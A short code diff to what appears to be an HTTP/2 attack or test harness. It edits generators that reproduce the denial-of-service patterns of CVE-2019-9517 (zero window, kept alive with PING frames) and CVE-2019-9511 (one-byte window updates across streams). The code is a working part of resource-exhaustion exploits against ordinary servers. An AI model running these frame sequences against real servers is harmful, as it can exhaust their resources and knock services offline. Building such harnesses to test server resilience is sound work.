@@ -22,7 +22,7 @@ def handshake():
 
 
 def keep_alive():
-    """Keep-alive at an honest pace, so that only the missing acknowledgement is wrong."""
+    """Keep-alive at an honest pace, so that nothing is wrong but what came, or did not come, before."""
     while True:
         yield frame(6, 0, 0, bytes(8))
         yield 0.25
@@ -49,11 +49,14 @@ def zero_window():
     """CVE-2019-9517: responses wait for a window that never opens."""
     yield ACKNOWLEDGEMENT
     yield from calls()
+    # A silent client would be idle as soon as it is stalled.
+    yield from keep_alive()
 
 
 def dribble():
     """CVE-2019-9511: a window of one byte at a time."""
-    yield from zero_window()
+    yield ACKNOWLEDGEMENT
+    yield from calls()
     while True:
         yield 0.1
         yield b"".join(frame(8, 0, id, bytes([0, 0, 0, 1])) for id in range(1, 21, 2))
